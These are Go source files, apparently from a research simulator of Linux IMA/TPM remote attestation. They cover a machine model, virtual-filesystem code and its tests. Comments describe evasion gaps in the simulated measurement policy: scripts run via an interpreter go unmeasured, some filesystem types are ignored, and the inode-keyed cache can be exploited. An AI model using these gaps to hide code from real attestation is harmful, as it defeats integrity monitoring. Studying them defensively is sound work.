		"/sys/kernel/security": vfs.FSTypeSecurityfs,
	}
	for point, typ := range mounts {
		if err := fs.Mount(point, typ); err != nil {
			return nil, fmt.Errorf("machine: mounting %s: %w", point, err)
		}
	}
	m := &Machine{
		fs:              fs,
		dev:             dev,
		ms:              ms,
		hostname:        o.hostname,
		uuid:            o.uuid,
		installed:       make(map[string]string),
		runningKernel:   o.kernelVer,
		secInterpreters: make(map[string]bool),
		firmwareVer:     o.firmwareVer,
		bootloaderVer:   o.bootloaderVer,
		cmdline:         o.cmdline,
	}
	if err := m.measureBootChain(); err != nil {
		return nil, err
	}
	return m, nil
}

// measureBootChain builds the boot event log for the running kernel and
// extends PCRs 0 and 4 — what firmware and bootloader do before the kernel
// starts. Caller must hold no locks; the PCR bank is internally locked.
func (m *Machine) measureBootChain() error {
	m.mu.Lock()
	log := measuredboot.BuildLog(m.firmwareVer, m.bootloaderVer, m.runningKernel, m.cmdline)
	m.bootLog = log
	m.mu.Unlock()
	if err := log.Extend(m.dev.PCRs()); err != nil {
		return fmt.Errorf("machine: measuring boot chain: %w", err)
	}
	return nil
}

// BootLog returns the current boot event log.
func (m *Machine) BootLog() measuredboot.Log {
	m.mu.Lock()
	defer m.mu.Unlock()
	return append(measuredboot.Log(nil), m.bootLog...)
}

// Hostname returns the machine hostname.
func (m *Machine) Hostname() string { return m.hostname }

// UUID returns the agent UUID.
func (m *Machine) UUID() string { return m.uuid }

// FS exposes the virtual filesystem.
func (m *Machine) FS() *vfs.VFS { return m.fs }

// TPM exposes the simulated TPM device.
func (m *Machine) TPM() *tpm.TPM { return m.dev }

// IMA exposes the measurement subsystem.
func (m *Machine) IMA() *ima.IMA { return m.ms }

// RunningKernel returns the currently booted kernel version.
func (m *Machine) RunningKernel() string {
	m.mu.Lock()
	defer m.mu.Unlock()
	return m.runningKernel
}

// PendingKernel returns a kernel installed but not yet booted ("" if none).
func (m *Machine) PendingKernel() string {
	m.mu.Lock()
	defer m.mu.Unlock()
	return m.pendingKernel
}

// InstalledVersion returns the installed version of a package.
func (m *Machine) InstalledVersion(name string) (string, error) {
	m.mu.Lock()
	defer m.mu.Unlock()
	v, ok := m.installed[name]
	if !ok {
		return "", fmt.Errorf("%w: %s", ErrNotInstalled, name)
	}
	return v, nil
}

// InstalledCount reports how many packages are installed.
func (m *Machine) InstalledCount() int {
	m.mu.Lock()
	defer m.mu.Unlock()
	return len(m.installed)
}

// InstallPackage installs (or upgrades to) the given package version,
// writing each shipped file into the filesystem with its deterministic
// content digest. Kernel image packages become the pending kernel until the
// next reboot (§III-C "Handling Kernel Modules").
func (m *Machine) InstallPackage(p mirror.Package) error {
	for _, f := range p.Files {
		digest := vfs.SyntheticDigest(p.ContentSeed(f), f.Size)
		if err := m.fs.WriteFileDigest(f.Path, digest, int64(f.Size), f.Mode); err != nil {
			return fmt.Errorf("machine: installing %s file %s: %w", p.Name, f.Path, err)
		}
		if f.Signature != "" {
			// The vendor signature ships with the package and lands in
			// the file's security.ima xattr (dpkg/rpm plugin behaviour).
			if err := m.fs.SetXattr(f.Path, vfs.IMAXattr, f.Signature); err != nil {
				return fmt.Errorf("machine: installing %s xattr: %w", p.Name, err)
			}
		}
	}
	m.mu.Lock()
	m.installed[p.Name] = p.Version
	if v, ok := p.KernelVersion(); ok && v != m.runningKernel {
		m.pendingKernel = v
	}
	m.mu.Unlock()
	return nil
}

// InstallRelease installs every package of a release (base image build).
func (m *Machine) InstallRelease(rel mirror.Release) error {
	for _, p := range rel.Packages {
		if err := m.InstallPackage(p); err != nil {
			return err
		}
	}
	return nil
}

// WriteFile writes a content-backed file (scripts, attacker payloads).
func (m *Machine) WriteFile(path string, content []byte, mode vfs.Mode) error {
	return m.fs.WriteFile(path, content, mode)
}

// visiblePath returns the path the measuring kernel records. SNAP binaries
// run inside a mount namespace, so their measured path is truncated to the
// in-sandbox path (the paper's SNAP false-positive cause).
func visiblePath(path string) string {
	if match := snapPathRE.FindStringSubmatch(path); match != nil {
		return match[1]
	}
	return path
}

// measure runs the IMA pipeline for path at the given hook.
func (m *Machine) measure(path string, hook ima.Hook) (vfs.FileInfo, error) {
	info, err := m.fs.Stat(path)
	if err != nil {
		return vfs.FileInfo{}, err
	}
	m.ms.Measure(info, visiblePath(path), hook)
	return info, nil
}

// shebangInterpreter extracts the interpreter path from script content.
func shebangInterpreter(content []byte) (string, bool) {
	if !bytes.HasPrefix(content, []byte("#!")) {
		return "", false
	}
	line := content[2:]
	if i := bytes.IndexByte(line, '\n'); i >= 0 {
		line = line[:i]
	}
	fields := strings.Fields(string(line))
	if len(fields) == 0 {
		return "", false
	}
	return fields[0], true
}

// Exec directly executes the file at path (./prog): the kernel's BPRM_CHECK
// hook measures the file itself. If the file is a shebang script, the
// interpreter binary named on the shebang line is executed (and measured)
// as well. This is the invocation style IMA covers properly.
func (m *Machine) Exec(path string) error {
	info, err := m.fs.Stat(path)
	if err != nil {
		return err
	}
	if !info.Mode.IsExec() {
		return fmt.Errorf("%w: %s", ErrNotExecutable, path)
	}
	if _, err := m.measure(path, ima.HookBprmCheck); err != nil {
		return err
	}
	// Shebang handling requires readable content; digest-only files are
	// treated as ELF binaries.
	if content, err := m.fs.ReadFile(path); err == nil {
		if interp, ok := shebangInterpreter(content); ok {
			if !m.fs.Exists(interp) {
				return fmt.Errorf("%w: %s", ErrNoInterpreter, interp)
			}
			if _, err := m.measure(interp, ima.HookBprmCheck); err != nil {
				return err
			}
		}
	}
	return nil
}

// EnableScriptExecControl marks an interpreter as supporting script
// execution control: from now on, scripts it runs are opened with the
// executable flag and hit IMA's SCRIPT_CHECK hook (the §IV-C fix for P5).
func (m *Machine) EnableScriptExecControl(interpreter string) error {
	if !m.fs.Exists(interpreter) {
		return fmt.Errorf("%w: %s", ErrNoInterpreter, interpreter)
	}
	m.mu.Lock()
	m.secInterpreters[interpreter] = true
	m.mu.Unlock()
	return nil
}

// ScriptExecControlEnabled reports whether the interpreter opted in.
func (m *Machine) ScriptExecControlEnabled(interpreter string) bool {
	m.mu.Lock()
	defer m.mu.Unlock()
	return m.secInterpreters[interpreter]
}

// ExecInterpreter runs "interpreter script" (e.g. python3 exploit.py). Only
// the interpreter binary passes through BPRM_CHECK; the script is opened as
// data (FILE_CHECK hook), which the stock policy does not measure — the
// paper's problem P5. If the interpreter opted into script execution
// control, the script is opened for execution instead (SCRIPT_CHECK hook),
// making it measurable.
func (m *Machine) ExecInterpreter(interpreter, script string) error {
	if !m.fs.Exists(interpreter) {
		return fmt.Errorf("%w: %s", ErrNoInterpreter, interpreter)
	}
	if _, err := m.measure(interpreter, ima.HookBprmCheck); err != nil {
		return err
	}
	if _, err := m.fs.Stat(script); err != nil {
		// The script needs no exec bit when fed to an interpreter, but it
		// must exist.
		return err
	}
	hook := ima.HookFileCheck
	if m.ScriptExecControlEnabled(interpreter) {
		hook = ima.HookScriptCheck
	}
	if _, err := m.measure(script, hook); err != nil {
		return err
	}
	return nil
}

// MmapExec maps a file with PROT_EXEC (shared objects, LD_PRELOAD rootkits);
// the FILE_MMAP hook measures it.
func (m *Machine) MmapExec(path string) error {
	if _, err := m.measure(path, ima.HookFileMmap); err != nil {
		return err
	}
	return nil
}

// LoadModule loads a kernel module through the MODULE_CHECK hook.
func (m *Machine) LoadModule(path string) error {
	if _, err := m.measure(path, ima.HookModuleCheck); err != nil {
		return err
	}
	return nil
}

// OpenRead opens a file for reading (FILE_CHECK hook; not measured by the
// stock policy). Used by the benign-operations workload.
func (m *Machine) OpenRead(path string) error {
	if _, err := m.measure(path, ima.HookFileCheck); err != nil {
		return err
	}
	return nil
}

// InstallSnap mounts a read-only squashfs at /snap/<name>/<rev> and
// populates it with the given files.
func (m *Machine) InstallSnap(name, revision string, files []mirror.UnpackedFile) error {
	base := "/snap/" + name + "/" + revision
	if err := m.fs.MountReadOnly(base, vfs.FSTypeSquashfs); err != nil {
		return fmt.Errorf("machine: mounting snap %s: %w", name, err)
	}
	for _, f := range files {
		if err := m.fs.WriteFile(base+f.Path, f.Content, f.Mode); err != nil {
			return fmt.Errorf("machine: populating snap %s: %w", name, err)
		}
	}
	return nil
}

// Reboot models a full reboot: the IMA log and PCRs reset, the measurement
// cache clears, volatile filesystems are wiped (and /tmp cleaned by
// systemd-tmpfiles), and a pending kernel (if any) becomes the running
// kernel.
func (m *Machine) Reboot() error {
	for _, volatile := range []string{"/tmp", "/run", "/dev/shm", "/proc"} {
		if _, err := m.fs.RemoveAll(volatile); err != nil {
			return fmt.Errorf("machine: wiping %s at reboot: %w", volatile, err)
		}
	}
	m.ms.Reboot()
	m.mu.Lock()
	if m.pendingKernel != "" {
		m.runningKernel = m.pendingKernel
		m.pendingKernel = ""
	}
	m.mu.Unlock()
	// The fresh boot re-measures the (possibly new) boot chain into the
	// reset PCR bank.
	return m.measureBootChain()
}
