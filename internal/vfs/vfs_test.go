package vfs

import (
	"bytes"
	"crypto/sha256"
	"errors"
	"fmt"
	"math/rand"
	"testing"
	"testing/quick"
)

func TestNewHasRootMount(t *testing.T) {
	v := New()
	mounts := v.MountPoints()
	if got, ok := mounts["/"]; !ok || got != FSTypeExt4 {
		t.Fatalf("MountPoints()[/] = %v, %v; want ext4 mount", got, ok)
	}
}

func TestWriteAndReadFile(t *testing.T) {
	v := New()
	content := []byte("#!/bin/sh\necho hi\n")
	if err := v.WriteFile("/usr/bin/hello", content, ModeExecutable); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}
	got, err := v.ReadFile("/usr/bin/hello")
	if err != nil {
		t.Fatalf("ReadFile: %v", err)
	}
	if !bytes.Equal(got, content) {
		t.Fatalf("ReadFile = %q, want %q", got, content)
	}
	info, err := v.Stat("/usr/bin/hello")
	if err != nil {
		t.Fatalf("Stat: %v", err)
	}
	if want := sha256.Sum256(content); info.Digest != want {
		t.Fatalf("Digest = %x, want %x", info.Digest, want)
	}
	if !info.Mode.IsExec() {
		t.Fatal("file should be executable")
	}
	if info.FSType != FSTypeExt4 {
		t.Fatalf("FSType = %v, want ext4", info.FSType)
	}
}

func TestReadFileCopiesContent(t *testing.T) {
	v := New()
	if err := v.WriteFile("/a", []byte("abc"), ModeRegular); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}
	got, err := v.ReadFile("/a")
	if err != nil {
		t.Fatalf("ReadFile: %v", err)
	}
	got[0] = 'X'
	again, err := v.ReadFile("/a")
	if err != nil {
		t.Fatalf("ReadFile: %v", err)
	}
	if !bytes.Equal(again, []byte("abc")) {
		t.Fatalf("internal content mutated via returned slice: %q", again)
	}
}

func TestWriteFileRelativePathRejected(t *testing.T) {
	v := New()
	if err := v.WriteFile("usr/bin/x", nil, ModeRegular); !errors.Is(err, ErrNotAbsolute) {
		t.Fatalf("err = %v, want ErrNotAbsolute", err)
	}
}

func TestOverwriteBumpsGenerationAndKeepsInode(t *testing.T) {
	v := New()
	if err := v.WriteFile("/bin/ls", []byte("v1"), ModeExecutable); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}
	before, _ := v.Stat("/bin/ls")
	if err := v.WriteFile("/bin/ls", []byte("v2"), ModeExecutable); err != nil {
		t.Fatalf("overwrite: %v", err)
	}
	after, _ := v.Stat("/bin/ls")
	if after.Inode != before.Inode {
		t.Fatalf("inode changed on overwrite: %d -> %d", before.Inode, after.Inode)
	}
	if after.Generation != before.Generation+1 {
		t.Fatalf("generation = %d, want %d", after.Generation, before.Generation+1)
	}
}

func TestOverwriteSameContentKeepsGeneration(t *testing.T) {
	v := New()
	if err := v.WriteFile("/bin/ls", []byte("v1"), ModeExecutable); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}
	before, _ := v.Stat("/bin/ls")
	if err := v.WriteFile("/bin/ls", []byte("v1"), ModeExecutable); err != nil {
		t.Fatalf("overwrite: %v", err)
	}
	after, _ := v.Stat("/bin/ls")
	if after.Generation != before.Generation {
		t.Fatalf("generation bumped for identical content: %d -> %d", before.Generation, after.Generation)
	}
}

func TestRenameSameFSPreservesInode(t *testing.T) {
	v := New()
	if err := v.WriteFile("/tmp-stage", []byte("payload"), ModeExecutable); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}
	before, _ := v.Stat("/tmp-stage")
	if err := v.Rename("/tmp-stage", "/usr/bin/payload"); err != nil {
		t.Fatalf("Rename: %v", err)
	}
	if v.Exists("/tmp-stage") {
		t.Fatal("source still exists after rename")
	}
	after, err := v.Stat("/usr/bin/payload")
	if err != nil {
		t.Fatalf("Stat dest: %v", err)
	}
	if after.Inode != before.Inode || after.FSID != before.FSID {
		t.Fatalf("identity changed on same-fs rename: (%d,%d) -> (%d,%d)",
			before.FSID, before.Inode, after.FSID, after.Inode)
	}
}

func TestRenameCrossFSGetsNewInode(t *testing.T) {
	v := New()
	if err := v.Mount("/tmp", FSTypeTmpfs); err != nil {
		t.Fatalf("Mount: %v", err)
	}
	if err := v.WriteFile("/tmp/payload", []byte("payload"), ModeExecutable); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}
	before, _ := v.Stat("/tmp/payload")
	if before.FSType != FSTypeTmpfs {
		t.Fatalf("FSType = %v, want tmpfs", before.FSType)
	}
	if err := v.Rename("/tmp/payload", "/usr/bin/payload"); err != nil {
		t.Fatalf("Rename: %v", err)
	}
	after, _ := v.Stat("/usr/bin/payload")
	if after.FSID == before.FSID {
		t.Fatal("cross-fs rename kept the filesystem id")
	}
	if after.FSType != FSTypeExt4 {
		t.Fatalf("dest FSType = %v, want ext4", after.FSType)
	}
	if after.Digest != before.Digest {
		t.Fatal("content digest changed across rename")
	}
}

func TestRenameMissingSource(t *testing.T) {
	v := New()
	if err := v.Rename("/nope", "/also-nope"); !errors.Is(err, ErrNotExist) {
		t.Fatalf("err = %v, want ErrNotExist", err)
	}
}

func TestMountLongestPrefixWins(t *testing.T) {
	v := New()
	if err := v.Mount("/var", FSTypeExt4); err != nil {
		t.Fatalf("Mount /var: %v", err)
	}
	if err := v.Mount("/var/tmp", FSTypeTmpfs); err != nil {
		t.Fatalf("Mount /var/tmp: %v", err)
	}
	if err := v.WriteFile("/var/tmp/x", []byte("x"), ModeRegular); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}
	info, _ := v.Stat("/var/tmp/x")
	if info.FSType != FSTypeTmpfs {
		t.Fatalf("FSType = %v, want tmpfs (longest prefix)", info.FSType)
	}
	// A sibling that merely shares the string prefix is NOT on the mount.
	if err := v.WriteFile("/var/tmpdir/y", []byte("y"), ModeRegular); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}
	info2, _ := v.Stat("/var/tmpdir/y")
	if info2.FSType != FSTypeExt4 {
		t.Fatalf("FSType = %v, want ext4 for /var/tmpdir", info2.FSType)
	}
}

func TestDuplicateMountRejected(t *testing.T) {
	v := New()
	if err := v.Mount("/tmp", FSTypeTmpfs); err != nil {
		t.Fatalf("Mount: %v", err)
	}
	if err := v.Mount("/tmp", FSTypeRamfs); !errors.Is(err, ErrMountExists) {
		t.Fatalf("err = %v, want ErrMountExists", err)
	}
}

func TestUnmountDropsFiles(t *testing.T) {
	v := New()
	if err := v.Mount("/tmp", FSTypeTmpfs); err != nil {
		t.Fatalf("Mount: %v", err)
	}
	if err := v.WriteFile("/tmp/a", []byte("a"), ModeRegular); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}
	if err := v.WriteFile("/keep", []byte("k"), ModeRegular); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}
	if err := v.Unmount("/tmp"); err != nil {
		t.Fatalf("Unmount: %v", err)
	}
	if v.Exists("/tmp/a") {
		t.Fatal("tmpfs file survived unmount")
	}
	if !v.Exists("/keep") {
		t.Fatal("root file lost on unrelated unmount")
	}
}

func TestUnmountRootRejected(t *testing.T) {
	v := New()
	if err := v.Unmount("/"); err == nil {
		t.Fatal("unmounting root succeeded, want error")
	}
}

func TestReadOnlyMountRejectsOverwriteAndRenameIn(t *testing.T) {
	v := New()
	if err := v.MountReadOnly("/snap/core20/1234", FSTypeSquashfs); err != nil {
		t.Fatalf("MountReadOnly: %v", err)
	}
	// Initial population is allowed (image build).
	if err := v.WriteFile("/snap/core20/1234/bin/sh", []byte("sh"), ModeExecutable); err != nil {
		t.Fatalf("initial write to ro fs: %v", err)
	}
	if err := v.WriteFile("/snap/core20/1234/bin/sh", []byte("evil"), ModeExecutable); !errors.Is(err, ErrReadOnlyFS) {
		t.Fatalf("overwrite on ro fs: err = %v, want ErrReadOnlyFS", err)
	}
	if err := v.WriteFile("/x", []byte("x"), ModeExecutable); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}
	if err := v.Rename("/x", "/snap/core20/1234/bin/x"); !errors.Is(err, ErrReadOnlyFS) {
		t.Fatalf("rename into ro fs: err = %v, want ErrReadOnlyFS", err)
	}
}

func TestRemoveAndRemoveAll(t *testing.T) {
	v := New()
	for _, p := range []string{"/opt/a/1", "/opt/a/2", "/opt/ab", "/opt/b"} {
		if err := v.WriteFile(p, []byte(p), ModeRegular); err != nil {
			t.Fatalf("WriteFile %s: %v", p, err)
		}
	}
	if err := v.Remove("/opt/b"); err != nil {
		t.Fatalf("Remove: %v", err)
	}
	if err := v.Remove("/opt/b"); !errors.Is(err, ErrNotExist) {
		t.Fatalf("double Remove err = %v, want ErrNotExist", err)
	}
	n, err := v.RemoveAll("/opt/a")
	if err != nil {
		t.Fatalf("RemoveAll: %v", err)
	}
	if n != 2 {
		t.Fatalf("RemoveAll removed %d, want 2", n)
	}
	if !v.Exists("/opt/ab") {
		t.Fatal("RemoveAll(/opt/a) removed sibling /opt/ab")
	}
}

func TestWalkSortedAndScoped(t *testing.T) {
	v := New()
	paths := []string{"/usr/bin/zz", "/usr/bin/aa", "/usr/lib/x", "/etc/conf"}
	for _, p := range paths {
		if err := v.WriteFile(p, []byte(p), ModeRegular); err != nil {
			t.Fatalf("WriteFile: %v", err)
		}
	}
	var got []string
	if err := v.Walk("/usr/bin", func(info FileInfo) error {
		got = append(got, info.Path)
		return nil
	}); err != nil {
		t.Fatalf("Walk: %v", err)
	}
	want := []string{"/usr/bin/aa", "/usr/bin/zz"}
	if len(got) != len(want) {
		t.Fatalf("Walk returned %v, want %v", got, want)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Fatalf("Walk returned %v, want %v", got, want)
		}
	}
}

func TestWalkStopsOnError(t *testing.T) {
	v := New()
	for i := 0; i < 5; i++ {
		if err := v.WriteFile(fmt.Sprintf("/f%d", i), nil, ModeRegular); err != nil {
			t.Fatalf("WriteFile: %v", err)
		}
	}
	sentinel := errors.New("stop")
	count := 0
	err := v.Walk("/", func(FileInfo) error {
		count++
		if count == 2 {
			return sentinel
		}
		return nil
	})
	if !errors.Is(err, sentinel) {
		t.Fatalf("Walk err = %v, want sentinel", err)
	}
	if count != 2 {
		t.Fatalf("Walk visited %d files after error, want 2", count)
	}
}

func TestDigestOnlyFiles(t *testing.T) {
	v := New()
	digest := SyntheticDigest("pkg:bash:5.1/bin/bash", 1024)
	if err := v.WriteFileDigest("/bin/bash", digest, 1024, ModeExecutable); err != nil {
		t.Fatalf("WriteFileDigest: %v", err)
	}
	info, err := v.Stat("/bin/bash")
	if err != nil {
		t.Fatalf("Stat: %v", err)
	}
	if info.Digest != digest || info.Size != 1024 {
		t.Fatalf("Stat = %+v, want digest/size preserved", info)
	}
	if _, err := v.ReadFile("/bin/bash"); !errors.Is(err, ErrNoContent) {
		t.Fatalf("ReadFile err = %v, want ErrNoContent", err)
	}
}

func TestWriteFileDigestNegativeSize(t *testing.T) {
	v := New()
	if err := v.WriteFileDigest("/x", [32]byte{}, -1, ModeRegular); !errors.Is(err, ErrEmptyContent) {
		t.Fatalf("err = %v, want ErrEmptyContent", err)
	}
}

func TestSyntheticContentDeterministic(t *testing.T) {
	a := SyntheticContent("seed", 1000)
	b := SyntheticContent("seed", 1000)
	if !bytes.Equal(a, b) {
		t.Fatal("SyntheticContent not deterministic")
	}
	c := SyntheticContent("other", 1000)
	if bytes.Equal(a, c) {
		t.Fatal("different seeds produced identical content")
	}
	if len(a) != 1000 {
		t.Fatalf("len = %d, want 1000", len(a))
	}
}

func TestSyntheticDigestMatchesContent(t *testing.T) {
	want := sha256.Sum256(SyntheticContent("s", 333))
	if got := SyntheticDigest("s", 333); got != want {
		t.Fatalf("SyntheticDigest = %x, want %x", got, want)
	}
}

// Property: inode numbers are unique per filesystem across arbitrary
// create/remove sequences.
func TestInodeUniquenessProperty(t *testing.T) {
	f := func(seed int64) bool {
		rng := rand.New(rand.NewSource(seed))
		v := New()
		live := make(map[string]bool)
		seen := make(map[uint64]string) // inode -> path at allocation (root fs only)
		for i := 0; i < 200; i++ {
			p := fmt.Sprintf("/d%d/f%d", rng.Intn(5), rng.Intn(50))
			switch rng.Intn(3) {
			case 0, 1:
				existed := live[p]
				if err := v.WriteFile(p, []byte{byte(rng.Intn(256))}, ModeRegular); err != nil {
					return false
				}
				info, _ := v.Stat(p)
				if !existed {
					if prior, dup := seen[info.Inode]; dup && live[prior] && prior != p {
						return false // reused a live inode
					}
					seen[info.Inode] = p
				}
				live[p] = true
			case 2:
				if live[p] {
					if err := v.Remove(p); err != nil {
						return false
					}
					live[p] = false
				}
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 30}); err != nil {
		t.Fatal(err)
	}
}

// Property: rename within the root filesystem never changes (FSID, Inode,
// Digest) regardless of the paths involved.
func TestRenamePreservesIdentityProperty(t *testing.T) {
	f := func(a, b uint8, content []byte) bool {
		v := New()
		src := fmt.Sprintf("/src/f%d", a)
		dst := fmt.Sprintf("/dst/f%d", b)
		if err := v.WriteFile(src, content, ModeExecutable); err != nil {
			return false
		}
		before, _ := v.Stat(src)
		if err := v.Rename(src, dst); err != nil {
			return false
		}
		after, _ := v.Stat(dst)
		return before.FSID == after.FSID && before.Inode == after.Inode && before.Digest == after.Digest
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestXattrLifecycle(t *testing.T) {
	v := New()
	if err := v.SetXattr("/missing", IMAXattr, "x"); !errors.Is(err, ErrNotExist) {
		t.Fatalf("SetXattr on missing file: %v, want ErrNotExist", err)
	}
	if err := v.WriteFile("/bin/tool", []byte("v1"), ModeExecutable); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}
	if _, ok := v.Xattr("/bin/tool", IMAXattr); ok {
		t.Fatal("xattr present before being set")
	}
	if err := v.SetXattr("/bin/tool", IMAXattr, "sig-hex"); err != nil {
		t.Fatalf("SetXattr: %v", err)
	}
	info, _ := v.Stat("/bin/tool")
	if info.IMASignature != "sig-hex" {
		t.Fatalf("IMASignature = %q", info.IMASignature)
	}
	// Survives in-place rewrite (like Linux xattrs across truncate+write).
	if err := v.WriteFile("/bin/tool", []byte("v2"), ModeExecutable); err != nil {
		t.Fatalf("rewrite: %v", err)
	}
	if got, _ := v.Xattr("/bin/tool", IMAXattr); got != "sig-hex" {
		t.Fatalf("xattr after rewrite = %q", got)
	}
	// Survives rename.
	if err := v.Rename("/bin/tool", "/usr/bin/tool"); err != nil {
		t.Fatalf("Rename: %v", err)
	}
	if got, _ := v.Xattr("/usr/bin/tool", IMAXattr); got != "sig-hex" {
		t.Fatalf("xattr after rename = %q", got)
	}
	// Gone after remove + recreate.
	if err := v.Remove("/usr/bin/tool"); err != nil {
		t.Fatalf("Remove: %v", err)
	}
	if err := v.WriteFile("/usr/bin/tool", []byte("v3"), ModeExecutable); err != nil {
		t.Fatalf("recreate: %v", err)
	}
	if _, ok := v.Xattr("/usr/bin/tool", IMAXattr); ok {
		t.Fatal("xattr survived unlink+recreate")
	}
}
