// Package vfs implements the virtual filesystem used by the simulated prover
// machine. It models exactly the pieces of Linux filesystem semantics that
// the paper's findings depend on:
//
//   - mounts with filesystem types (ext4, tmpfs, procfs, ...), because IMA
//     policies ignore whole filesystem types (problem P3 in the paper);
//   - inode identity that is preserved by rename within a filesystem but not
//     across filesystems, because IMA's measure-once cache is keyed by
//     inode (problem P4);
//   - per-file generation counters bumped on content writes, because IMA
//     re-measures a file whose contents changed (the source of the paper's
//     "hash mismatch" false positives during OS updates);
//   - the executable bit, because both IMA and the Keylime policy only
//     consider executable files.
//
// File contents may be stored inline or as a precomputed digest ("digest
// only") so paper-scale filesystems (hundreds of thousands of entries) stay
// cheap.
package vfs

import (
	"crypto/sha256"
	"encoding/binary"
	"errors"
	"fmt"
	"path"
	"sort"
	"strings"
	"sync"
)

// FSType identifies a filesystem type. The set mirrors the types the paper
// calls out as ignored by the stock IMA policy, plus ext4 and squashfs.
type FSType int

// Filesystem types.
const (
	FSTypeExt4 FSType = iota + 1
	FSTypeTmpfs
	FSTypeProcfs
	FSTypeSysfs
	FSTypeDebugfs
	FSTypeRamfs
	FSTypeSecurityfs
	FSTypeOverlayfs
	FSTypeSquashfs
	FSTypeDevtmpfs
)

var fsTypeNames = map[FSType]string{
	FSTypeExt4:       "ext4",
	FSTypeTmpfs:      "tmpfs",
	FSTypeProcfs:     "proc",
	FSTypeSysfs:      "sysfs",
	FSTypeDebugfs:    "debugfs",
	FSTypeRamfs:      "ramfs",
	FSTypeSecurityfs: "securityfs",
	FSTypeOverlayfs:  "overlay",
	FSTypeSquashfs:   "squashfs",
	FSTypeDevtmpfs:   "devtmpfs",
}

// String returns the Linux name of the filesystem type.
func (t FSType) String() string {
	if s, ok := fsTypeNames[t]; ok {
		return s
	}
	return fmt.Sprintf("fstype(%d)", int(t))
}

// Sentinel errors returned by filesystem operations.
var (
	ErrNotExist     = errors.New("vfs: file does not exist")
	ErrExist        = errors.New("vfs: file already exists")
	ErrNotMounted   = errors.New("vfs: no filesystem mounted at path")
	ErrMountExists  = errors.New("vfs: mount point already in use")
	ErrNotAbsolute  = errors.New("vfs: path is not absolute")
	ErrIsDirectory  = errors.New("vfs: path is a directory")
	ErrCrossDevice  = errors.New("vfs: cross-device rename not permitted")
	ErrNoContent    = errors.New("vfs: file stores digest only, content unavailable")
	ErrReadOnlyFS   = errors.New("vfs: filesystem is read-only")
	ErrMountedBusy  = errors.New("vfs: mount point busy")
	ErrEmptyContent = errors.New("vfs: digest-only file requires explicit size")
)

// Mode holds the subset of file mode bits the simulation cares about.
type Mode uint32

// Mode bits.
const (
	// ModeExec marks a file executable (any of the x bits set).
	ModeExec Mode = 0o111
	// ModeRegular is a plain rw file.
	ModeRegular Mode = 0o644
	// ModeExecutable is the usual rwxr-xr-x.
	ModeExecutable Mode = 0o755
)

// IsExec reports whether any execute bit is set.
func (m Mode) IsExec() bool { return m&ModeExec != 0 }

// IMAXattr is the extended attribute carrying a vendor file signature
// (Linux's security.ima).
const IMAXattr = "security.ima"

// FileInfo is the caller-visible view of a file.
type FileInfo struct {
	Path string
	// FSID identifies the filesystem instance holding the file.
	FSID uint32
	// FSType is the type of that filesystem.
	FSType FSType
	// Inode is unique within the filesystem and survives rename.
	Inode uint64
	// Generation increments every time the file's content changes.
	Generation uint64
	Mode       Mode
	Size       int64
	// Digest is the SHA-256 of the file content.
	Digest [sha256.Size]byte
	// IMASignature is the hex vendor signature from the security.ima
	// xattr ("" when unsigned).
	IMASignature string
}

// file is the internal representation.
type file struct {
	fsID       uint32
	inode      uint64
	generation uint64
	mode       Mode
	size       int64
	digest     [sha256.Size]byte
	// content is nil for digest-only files.
	content []byte
	// xattrs holds extended attributes (e.g. security.ima). Like Linux
	// xattrs they survive in-place rewrites and renames but not removal.
	xattrs map[string]string
}

// mount is a mounted filesystem instance.
type mount struct {
	point    string
	fsType   FSType
	fsID     uint32
	readOnly bool
	nextIno  uint64
}

// VFS is a thread-safe virtual filesystem tree. Construct with New.
type VFS struct {
	mu       sync.RWMutex
	mounts   []*mount // sorted by descending mount point length
	files    map[string]*file
	nextFSID uint32
}

// New returns a VFS with a single ext4 root filesystem mounted at "/".
func New() *VFS {
	v := &VFS{files: make(map[string]*file)}
	if err := v.Mount("/", FSTypeExt4); err != nil {
		// Mounting the root of an empty tree cannot fail.
		panic(fmt.Sprintf("vfs: mounting root: %v", err))
	}
	return v
}

func cleanPath(p string) (string, error) {
	if !strings.HasPrefix(p, "/") {
		return "", fmt.Errorf("%w: %q", ErrNotAbsolute, p)
	}
	return path.Clean(p), nil
}

// Mount attaches a new filesystem instance of the given type at point.
func (v *VFS) Mount(point string, t FSType) error {
	return v.mountOpts(point, t, false)
}

// MountReadOnly attaches a read-only filesystem (e.g. squashfs for SNAPs).
func (v *VFS) MountReadOnly(point string, t FSType) error {
	return v.mountOpts(point, t, true)
}

func (v *VFS) mountOpts(point string, t FSType, ro bool) error {
	point, err := cleanPath(point)
	if err != nil {
		return err
	}
	v.mu.Lock()
	defer v.mu.Unlock()
	for _, m := range v.mounts {
		if m.point == point {
			return fmt.Errorf("%w: %q", ErrMountExists, point)
		}
	}
	v.nextFSID++
	v.mounts = append(v.mounts, &mount{point: point, fsType: t, fsID: v.nextFSID, readOnly: ro, nextIno: 1})
	sort.Slice(v.mounts, func(i, j int) bool {
		return len(v.mounts[i].point) > len(v.mounts[j].point)
	})
	return nil
}

// Unmount detaches the filesystem at point, dropping every file on it.
func (v *VFS) Unmount(point string) error {
	point, err := cleanPath(point)
	if err != nil {
		return err
	}
	if point == "/" {
		return fmt.Errorf("%w: cannot unmount root", ErrMountedBusy)
	}
	v.mu.Lock()
	defer v.mu.Unlock()
	idx := -1
	for i, m := range v.mounts {
		if m.point == point {
			idx = i
			break
		}
	}
	if idx < 0 {
		return fmt.Errorf("%w: %q", ErrNotMounted, point)
	}
	fsID := v.mounts[idx].fsID
	v.mounts = append(v.mounts[:idx], v.mounts[idx+1:]...)
	for p, f := range v.files {
		if f.fsID == fsID {
			delete(v.files, p)
		}
	}
	return nil
}

// mountFor returns the mount owning path p (longest-prefix match).
// Caller must hold v.mu.
